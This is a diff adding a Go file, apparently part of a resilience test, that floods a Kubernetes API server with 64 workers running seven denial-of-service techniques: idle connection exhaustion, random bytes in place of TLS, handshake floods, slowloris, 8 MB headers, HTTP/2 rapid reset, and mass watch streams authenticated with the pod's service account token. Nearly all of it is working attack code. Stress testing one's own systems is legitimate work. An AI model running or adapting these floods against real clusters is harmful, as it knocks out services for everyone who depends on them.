@@ -1,0 +1,204 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+const (
+	floodTime = 8 * time.Second
+	workers   = 64
+)
+
+// floods are what each of many workers does without end. The connections that they
+// leave open stay open until the flood is over.
+var floods = map[string]func(ctx context.Context, keep func(io.Closer)) error{
+	"connections": connections,
+	"garbage":     garbage,
+	"handshakes":  handshakes,
+	"slowloris":   slowloris,
+	"headers":     headers,
+	"resets":      resets,
+	"streams":     streams,
+}
+
+// flood does the worst for a while. That the mesh held is for those to say who
+// depend on it meanwhile.
+func flood(ctx context.Context, kind string) (verdict, error) {
+	attack := floods[kind]
+	if attack == nil {
+		return verdict{}, fmt.Errorf("no flood %q", kind)
+	}
+	ctx, cancel := context.WithTimeout(ctx, floodTime)
+	defer cancel()
+	var mu sync.Mutex
+	var open []io.Closer
+	keep := func(c io.Closer) {
+		mu.Lock()
+		defer mu.Unlock()
+		open = append(open, c)
+	}
+	var done, refused atomic.Int64
+	var g sync.WaitGroup
+	for range workers {
+		g.Go(func() {
+			for ctx.Err() == nil {
+				if err := attack(ctx, keep); err != nil {
+					refused.Add(1)
+				} else {
+					done.Add(1)
+				}
+			}
+		})
+	}
+	g.Wait()
+	for _, c := range open {
+		_ = c.Close()
+	}
+	if done.Load() == 0 && refused.Load() == 0 {
+		return verdict{}, fmt.Errorf("nothing was tried")
+	}
+	return held("%d went through, %d did not, %d connections open in the end", done.Load(), refused.Load(), len(open))
+}
+
+// connections are opened, and then nothing.
+func connections(ctx context.Context, keep func(io.Closer)) error {
+	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", apiserver())
+	if err != nil {
+		return err
+	}
+	keep(conn)
+	return nil
+}
+
+// garbage is no TLS.
+func garbage(ctx context.Context, _ func(io.Closer)) error {
+	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", apiserver())
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(patience))
+	_, err = io.CopyN(conn, rand.Reader, 16<<10)
+	return err
+}
+
+// handshakes cost the other side more than this one.
+func handshakes(context.Context, func(io.Closer)) error {
+	conn, err := dial("kubernetes", "h2")
+	if err != nil {
+		return err
+	}
+	return conn.Close()
+}
+
+// slowloris sends a request that never ends.
+func slowloris(ctx context.Context, keep func(io.Closer)) error {
+	conn, err := dial("kubernetes", "http/1.1")
+	if err != nil {
+		return err
+	}
+	keep(conn)
+	_ = conn.SetDeadline(time.Now().Add(floodTime))
+	_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\nX-Slow: ")
+	return err
+}
+
+// headers are larger than anybody's.
+func headers(context.Context, func(io.Closer)) error {
+	conn, err := dial("kubernetes", "http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\nX-Large: "+strings.Repeat("x", 8<<20)+"\r\n\r\n")
+	return err
+}
+
+// framer opens an HTTP/2 connection that is spoken by hand.
+func framer() (*http2.Framer, io.Closer, error) {
+	conn, err := dial("kubernetes", "h2")
+	if err != nil {
+		return nil, nil, err
+	}
+	_ = conn.SetDeadline(time.Now().Add(floodTime))
+	if _, err = io.WriteString(conn, http2.ClientPreface); err != nil {
+		conn.Close()
+		return nil, nil, err
+	}
+	go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
+	f := http2.NewFramer(conn, nil)
+	return f, conn, f.WriteSettings()
+}
+
+// fields is the block of a request's headers.
+func fields(path string) ([]byte, error) {
+	token, err := os.ReadFile(tokenFile)
+	if err != nil {
+		return nil, err
+	}
+	var block bytes.Buffer
+	e := hpack.NewEncoder(&block)
+	for _, f := range [][2]string{
+		{":method", "GET"}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", path},
+		{"authorization", "Bearer " + strings.TrimSpace(string(token))},
+	} {
+		if err := e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
+			return nil, err
+		}
+	}
+	return block.Bytes(), nil
+}
+
+// resets are requests taken back as soon as they are made.
+func resets(ctx context.Context, _ func(io.Closer)) error {
+	f, conn, err := framer()
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	for id := uint32(1); ctx.Err() == nil; id += 2 {
+		block, err := fields("/version")
+		if err != nil {
+			return err
+		}
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
+			return err
+		}
+		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// streams are watches, as many as a connection takes, on many connections.
+func streams(_ context.Context, keep func(io.Closer)) error {
+	f, conn, err := framer()
+	if err != nil {
+		return err
+	}
+	keep(conn)
+	for i := range uint32(200) {
+		block, err := fields("/api/v1/configmaps?watch=true")
+		if err != nil {
+			return err
+		}
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
+			return err
+		}
+	}
+	return nil
+}
